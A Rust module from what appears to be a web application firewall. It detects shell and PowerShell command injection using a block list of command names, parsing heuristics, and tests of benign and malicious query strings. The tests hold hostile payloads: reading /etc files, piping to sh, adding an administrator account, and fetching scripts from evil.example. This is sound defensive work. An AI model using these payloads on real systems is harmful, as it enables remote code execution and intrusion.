//! Family 932: remote command execution: shell and PowerShell commands
//! after a command separator, command substitution, shellshock, Windows
//! `FOR` loops, and the shell's expansion tricks.

use super::Value;
use crate::request::Location;
use crate::score::{Finding, Severity, fragment};

/// Commands an injected shell line runs (Unix, Windows, PowerShell).
const COMMANDS: &[&str] = &[
    // Unix
    "cat",
    "tac",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "ps",
    "ping",
    "nslookup",
    "dig",
    "host",
    "find",
    "chmod",
    "chown",
    "rm",
    "mv",
    "cp",
    "echo",
    "printf",
    "base64",
    "rev",
    "env",
    "printenv",
    "cd",
    "pwd",
    "column",
    "bridge",
    "awk",
    "sed",
    "grep",
    "head",
    "tail",
    "less",
    "more",
    "nl",
    "od",
    "xxd",
    "sort",
    "uniq",
    "tee",
    "touch",
    "mkdir",
    "kill",
    "pkill",
    "sleep",
    "telnet",
    "ssh",
    "scp",
    "ftp",
    "tftp",
    "sudo",
    "su",
    "crontab",
    "nohup",
    "xargs",
    "exec",
    "eval",
    "export",
    "set",
    "unset",
    "source",
    "passwd",
    "useradd",
    "ifconfig",
    "ip",
    "netstat",
    "ss",
    "lsof",
    "mount",
    "dd",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "busybox",
    "socat",
    "nmap",
    "sqlmap",
    "gcc",
    "cc",
    "make",
    "java",
    "docker",
    "kubectl",
    "systemctl",
    "service",
    "history",
    "alias",
    "jobs",
    "time",
    "timeout",
    "strings",
    "file",
    "which",
    "whereis",
    "locate",
    "diff",
    "cmp",
    "split",
    // Windows
    "cmd",
    "powershell",
    "pwsh",
    "certutil",
    "mshta",
    "regedit",
    "reg",
    "bcdboot",
    "bcdedit",
    "net",
    "netsh",
    "tasklist",
    "taskkill",
    "ipconfig",
    "systeminfo",
    "wmic",
    "rundll32",
    "regsvr32",
    "bitsadmin",
    "cscript",
    "wscript",
    "msiexec",
    "schtasks",
    "sc",
    "type",
    "dir",
    "copy",
    "del",
    "move",
    "start",
    "findstr",
    "icacls",
    "vssadmin",
    "wevtutil",
    "nltest",
    "whoami.exe",
    "cmd.exe",
    "powershell.exe",
    // PowerShell aliases and cmdlets
    "iex",
    "iwr",
    "irm",
    "iwmi",
    "invoke-expression",
    "invoke-webrequest",
    "invoke-restmethod",
    "invoke-wmimethod",
    "new-object",
    "start-process",
    "downloadstring",
    "downloadfile",
    "set-content",
    "get-content",
    "flock",
    "cpulimit",
    "perf",
    "strace",
    "ltrace",
    "ansible",
    "ansible-config",
    "ansible-galaxy",
    "ansible-playbook",
    "bsdtar",
    "nice",
    "ionice",
    "chroot",
    "watch",
    "unshare",
    "nsenter",
    "setsid",
    "stdbuf",
    "doas",
    "pkexec",
    "c89",
    "c99",
    "gdb",
    "rmt",
    "rmt-tar",
    "rmt-dump",
    "trap",
    "aptitude",
    "apt",
    "apt-get",
    "yum",
    "dnf",
    "aa-disable",
    "ansible-console",
    "ansible-doc",
    "ansible-inventory",
    "ansible-pull",
    "ansible-vault",
    "visudo",
    "chef",
    "cscli",
];

/// Command names that are also everyday words ("cat food", "find my
/// order"): at the start of a value these need command-like arguments.
const EVERYDAY_WORDS: &[&str] = &[
    "cat", "find", "time", "ping", "file", "more", "less", "sort", "head", "tail", "split", "set", "type", "start",
    "move", "copy", "net", "host", "kill", "touch", "make", "service", "history", "jobs", "source", "export", "env",
    "id", "ip", "ss", "sc", "dir", "del", "which", "whereis", "locate", "diff", "echo", "sleep", "cd", "mount",
    "column", "bridge", "alias", "nice", "watch", "strings", "tee", "time", "mail", "reg", "rev", "od", "nl", "cc",
    "cmp", "dd", "tar", "zip", "sh", "su", "ps", "ls", "rm", "mv", "cp", "nc", "php", "node", "java", "ruby", "lua",
    "dig", "sed", "awk", "grep", "printf", "unset", "eval", "exec", "timeout", "uniq", "xargs",
];

/// Commands that only run other commands: `time`, `nohup`, `strace` …
const WRAPPERS: &[&str] = &[
    "time", "nohup", "strace", "ltrace", "nice", "ionice", "timeout", "sudo", "doas", "env", "xargs", "flock",
    "cpulimit", "watch", "exec", "busybox", "chroot", "setsid", "stdbuf", "unshare", "nsenter",
];

fn finding(check: &'static str, v: &Value<'_>, what: &str) -> Finding {
    Finding {
        family: 932,
        check,
        paranoia: 1,
        severity: Severity::Critical,
        location: v.field.location.owned(),
        fragment: fragment(what),
    }
}

/// The shell's view of the text: quotes and backslashes inside words are
/// gone (`c'a't` is `cat`), `$@` and `${IFS}` mean nothing or a space.
fn shell_words(s: &str) -> String {
    let s = s.replace("${ifs}", " ").replace("$ifs", " ").replace("$@", "").replace("$*", "");
    s.chars().filter(|c| !matches!(c, '\'' | '"' | '\\' | '^')).collect()
}

/// The first word of `s` (a command name, maybe with a path: `/bin/sh`).
fn first_word(s: &str) -> &str {
    let s = s.trim_start();
    let end = s
        .find(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '<' | '>' | '(' | ')' | '`' | ','))
        .unwrap_or(s.len());
    &s[..end]
}

/// Whether `word` (maybe `/usr/bin/perl`, `python3.10`) names a command.
fn is_command(word: &str) -> bool {
    // A set, not the list: this runs for every word after every separator.
    static SET: std::sync::OnceLock<std::collections::HashSet<&'static str>> = std::sync::OnceLock::new();
    let commands = SET.get_or_init(|| COMMANDS.iter().copied().collect());
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let trimmed = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    (!base.is_empty() && commands.contains(base)) || (!trimmed.is_empty() && commands.contains(trimmed))
}

/// A command right after a separator (`;`, `|`, `&`, `&&`, `||`, a line
/// break, a backtick or `$(`).
fn command_after_separator(s: &str) -> Option<String> {
    for (at, sep) in s.char_indices().filter(|(_, c)| matches!(c, ';' | '|' | '&' | '\n' | '`')) {
        let rest = &s[at + sep.len_utf8()..];
        let rest = rest.trim_start_matches(['|', '&']);
        let word = first_word(rest);
        if is_command(word) {
            // `Tom & Jerry`: a lone `&` before an ordinary word is prose;
            // commands on either side of `&` need an argument or an end.
            let after = rest.trim_start()[word.len()..].trim_start();
            let words_follow = after.chars().next().is_some_and(char::is_alphabetic)
                && !after.starts_with('-')
                && !windows_net_command(word, after);
            // `Gifts & more`: an everyday word (not `id`, `ls`) ending prose.
            let ends_prose =
                after.is_empty() && !s[..at].trim().is_empty() && word.len() >= 4 && EVERYDAY_WORDS.contains(&word);
            let prose_and = sep == '&' && !s[..at].ends_with('&') && (words_follow || ends_prose);
            if !prose_and || word.contains('/') {
                return Some(word.to_owned());
            }
        }
    }
    None
}

/// Windows `net` with a subcommand that reads or changes accounts, groups,
/// shares or sessions (`net user`, `net localgroup administrators`): an
/// attacker's first steps, and not how anyone words a shopping search.
fn windows_net_command(word: &str, after: &str) -> bool {
    const SUBCOMMANDS: &[&str] = &["user", "users", "localgroup", "group", "share", "session", "accounts"];
    word == "net" && SUBCOMMANDS.contains(&first_word(after))
}

/// A command at the very start, with what a command takes: a path, a
/// flag, a URL, or a redirection (`cat /etc/passwd`, `ls -la`).
fn command_with_arguments(s: &str) -> Option<String> {
    let word = first_word(s);
    if !is_command(word) {
        return None;
    }
    let rest = s.trim_start()[word.len()..].trim_start();
    let argument = rest.starts_with(['/', '-', '>', '<', '|', '$', '~', ';', '&'])
        || rest.starts_with("http")
        || word.contains('/');
    let base =
        word.rsplit(['/', '\\']).next().unwrap_or(word).trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    // A distinctive command alone, or before something shaped like a file
    // or host, or one whose name no shopper types (`ansible-vault`,
    // `python3.10`); "python book" and "curl cream" are shopping.
    let first_argument = rest.split_whitespace().next().unwrap_or_default();
    let option = rest
        .split_whitespace()
        .take(4)
        .any(|a| a.starts_with('-') && a[1..].starts_with(|c: char| c.is_ascii_alphabetic()));
    let shell_shaped = first_argument.contains(['/', '.', ':', '=', '*', '?', '\\']) || option;
    let unusual_name =
        base.contains(['-', '_']) || word.trim_end_matches(['.']).ends_with(|c: char| c.is_ascii_digit());
    let distinctive = !EVERYDAY_WORDS.contains(&base) && (rest.is_empty() || shell_shaped || unusual_name);
    let wrapped = WRAPPERS.contains(&base) && is_command(first_word(rest));
    (argument || distinctive || wrapped || windows_net_command(base, rest)).then(|| word.to_owned())
}

/// cmd.exe control flow: `for %x in (set) do …` (with `/f` options, odd
/// variable names, no space before `do`), and `if [not] exist|defined|
/// errorlevel …`.
fn windows_control(s: &str) -> bool {
    let s: String = s.split_whitespace().collect::<Vec<_>>().join(" ");
    let for_loop = s.match_indices("for ").any(|(at, _)| {
        let rest = &s[at + 4..];
        let Some(var) = rest.find('%') else { return false };
        let Some(in_at) = rest[var..].find(" in") else { return false };
        let after_in = rest[var + in_at + 3..].trim_start();
        after_in.starts_with('(')
            && after_in.match_indices(')').any(|(c, _)| after_in[c + 1..].trim_start().starts_with("do"))
    });
    let condition = s.match_indices("if ").any(|(at, _)| {
        let mut rest = &s[at + 3..];
        while let Some(r) = rest.strip_prefix("not ").or_else(|| rest.strip_prefix("/i ")) {
            rest = r;
        }
        let keyword = ["exist ", "defined ", "errorlevel ", "cmdextversion "].iter().any(|k| rest.starts_with(k));
        // `if 2 geq 15 …`, `if %x% equ 2 …`: cmd.exe comparisons.
        let comparison = rest.split(' ').take(4).any(|w| matches!(w, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq"));
        keyword || comparison || rest.split(' ').take(2).any(|w| w.contains("=="))
    });
    for_loop || condition
}

/// Other ways to reach a shell: `alias x=…`, `$SHELL -c`, a program
/// under `bin/`, and glob classes hiding a path (`/etc/pas[s]wd`).
fn shell_tricks(s: &str) -> Option<&'static str> {
    let first = s.split_whitespace().next().unwrap_or_default();
    if first == "alias" && s.split_whitespace().nth(1).is_some_and(|w| w.contains('=')) {
        return Some("alias");
    }
    if ["$shell", "${shell}", "$0", "$bash"].contains(&first) {
        return Some("$shell");
    }
    let program_path = s.match_indices("bin/").any(|(at, _)| {
        let before = s[..at].chars().next_back();
        before.is_none_or(|c| c == '/' || c == 's' || c.is_whitespace())
            && s[at + 4..].starts_with(|c: char| c.is_ascii_alphabetic())
    });
    if program_path && (s.starts_with("bin/") || s.starts_with('/') || s.contains(" /")) {
        return Some("bin/");
    }
    let glob_path = s.starts_with('/') && s.contains('[') && s.contains(']') && s.matches('/').count() >= 2;
    glob_path.then_some("glob")
}

/// `… | sh`, `…|bash -s`: output piped into a shell (the shell's name a
/// whole word: "Books | Shelves" is a breadcrumb).
fn pipes_to_shell(s: &str) -> bool {
    s.match_indices('|').any(|(at, _)| {
        let shell = first_word(&s[at + 1..]);
        let base = shell.rsplit('/').next().unwrap_or(shell);
        matches!(base, "sh" | "bash" | "zsh" | "dash" | "ksh")
    })
}

/// `{l,-lh}s`, `c{a,ou}nt`: brace expansion spelling a command.
fn brace_expansion(s: &str) -> bool {
    s.match_indices('{').any(|(at, _)| {
        let Some(len) = s[at..].find('}') else { return false };
        let inner = &s[at + 1..at + len];
        inner.contains(',') && !inner.contains(' ') && !inner.contains('"') && !inner.contains(':')
    })
}

pub fn check(values: &[Value<'_>], out: &mut Vec<Finding>) {
    for v in values {
        if matches!(v.field.location, Location::Method | Location::Path) {
            continue;
        }
        // Line breaks separate commands: read the unfolded text.
        let s = shell_words(&v.forms.last().map(|f| f.to_lowercase()).unwrap_or_default());
        let s = s.trim();
        // A bare command at the start only means something in a parameter;
        // headers are full of words like `gzip`.
        let parameter = matches!(
            v.field.location,
            Location::Query(_)
                | Location::QueryName(_)
                | Location::Body(_)
                | Location::BodyName(_)
                | Location::Cookie(_)
        );
        // Parameter names are chosen by the application, and short command
        // names are common ones (`pwd` is WordPress's password field): a
        // name counts only when it carries arguments.
        let name = matches!(v.field.location, Location::QueryName(_) | Location::BodyName(_));
        let at_start = match (parameter, name) {
            (false, _) => None,
            (true, false) => command_with_arguments(s),
            (true, true) => command_with_arguments(s).filter(|word| s.len() > word.len()),
        };
        if let Some(cmd) = command_after_separator(s).or(at_start) {
            out.push(finding("rce-command", v, &cmd));
        }
        if s.contains("$(") || s.contains("<(") || s.contains(">(") || s.contains("$((") {
            out.push(finding("rce-substitution", v, s));
        } else if let Some(at) = s.find("${")
            && s[at..].contains('}')
            && !s[at + 2..].starts_with('}')
        {
            out.push(finding("rce-substitution", v, s));
        }
        if s.matches('`').count() >= 2 {
            let inner = s.split('`').nth(1).unwrap_or_default();
            if is_command(first_word(inner)) {
                out.push(finding("rce-backtick", v, inner));
            }
        }
        if s.replace(' ', "").contains("(){") {
            out.push(finding("rce-shellshock", v, "() {"));
        }
        if windows_control(s) {
            out.push(finding("rce-windows-for", v, s));
        }
        if brace_expansion(s)
            && matches!(v.field.location, Location::Query(_) | Location::Body(_) | Location::Cookie(_))
        {
            out.push(finding("rce-brace-expansion", v, s));
        }
        let word = s.split_whitespace().next().unwrap_or_default();
        let tilde = word
            .strip_prefix('~')
            .is_some_and(|r| (r.starts_with('+') || r.starts_with('-')) && r[1..].bytes().all(|b| b.is_ascii_digit()));
        let bang = word.starts_with('!') && word[1..].trim_start_matches('-').starts_with(|c: char| c.is_ascii_digit());
        if tilde || bang {
            out.push(finding("rce-shell-expansion", v, word));
        }
        if let Some(what) = shell_tricks(s) {
            out.push(finding("rce-shell-trick", v, what));
        }
        if pipes_to_shell(s) {
            out.push(finding("rce-pipe-to-shell", v, s));
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::Request;
    use crate::score::inspect;

    fn blocked(target: &str) -> bool {
        inspect(&Request::from_parts("GET", target, crate::request::NO_HEADERS, b""), 1, 5).blocked
    }

    #[test]
    fn command_injection_is_caught() {
        for attack in [
            "/?q=x;cat%20/etc/issue",
            "/?q=1|id",
            "/?q=a%0Awhoami",
            "/?q=$(id)",
            "/?q=%60id%60",
            "/?q=()%20{%20:;};%20/bin/sh",
            "/?q=for%20%25x%20in%20(1)%20do%20calc",
            "/?q=%26+FOR+%25%40+IN+%28a%2Cb%29DO+cmd",
            "/?q=IF++++NOT+EXIST+C%3A%5Cx+++CMD",
            "/?q=whoami;0",
            "/?q=time+ifconfig",
            "/?q=ansible+all+-m+ping",
            "/?q=c'a't%20/etc/hosts",
            "/?q=;iwr%20http://evil.example/x.ps1",
            "/?q={l,-lh}s",
            "/?q=~%2B",
            "/?q=printf%20abc|base64%20-d|sh",
            "/?q=%26%20net%20user",
            "/?q=net+localgroup+administrators+eve+/add",
            "/?q=x+%7C+bash",
            "/?q=curl+evil.example/x|/bin/sh",
            "/?q=1+%26+id",
        ] {
            assert!(blocked(attack), "{attack}");
        }
    }

    #[test]
    fn shop_words_that_are_also_commands_pass() {
        for benign in [
            "/?q=cat+food",
            "/?q=Tom+%26+Jerry+mug",
            "/?q=salt+%26+pepper",
            "/?q=find+my+order",
            "/?q=time+for+coffee",
            "/?q=ping+pong+table",
            "/?q=100%25+cotton",
            "/?q=rock+%26+roll",
            "/?q=net+weight+250g",
            "/?q=if+it+exists+in+blue",
            "/?q=good+for+you+in+(winter)+do+try",
            "/?q=time+to+brew",
            "/?q=echo+dot+speaker",
            "/?q=fish+%26+net+weight",
            "/?q=Gifts+%26+more",
            "/?q=Tools+%26+Time",
            "/?q=Books+%7C+Shelves",
            "/?q=wash+%7C+shower+gel",
        ] {
            assert!(!blocked(benign), "{benign}");
        }
    }
}
